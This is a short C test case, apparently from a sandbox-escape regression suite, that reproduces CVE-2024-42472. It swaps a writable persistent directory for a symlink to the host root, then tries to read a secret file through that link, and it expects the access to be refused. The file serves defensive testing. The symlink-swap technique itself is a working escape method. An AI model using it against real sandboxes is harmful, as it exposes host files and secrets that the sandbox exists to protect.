// attack: replace a directory that the next launch will show by a link to the host's root
// group: B
// source: CVE-2024-42472
// layer: the launcher opens sources without following links
// outside: as any user
// needs: now
// stages: plant read
// arguments: {writable} {secret}
// denied: refused
// policy-read: filesystem.read-write={writable}/persist
#include "../attack.h"

int main(int argc, char **argv) {
  char path[4096];
  const char *stage = argument(argc, argv, 1, "stage");
  const char *writable = argument(argc, argv, 2, "writable");
  if (strcmp(stage, "plant") == 0) {
    snprintf(path, sizeof path, "%s/persist", writable);
    unlink(path);
    judge("symlink", symlink("/", path));
  }
  snprintf(path, sizeof path, "%s/persist%s", writable, argument(argc, argv, 3, "secret"));
  judge_read(AT_FDCWD, path);
}
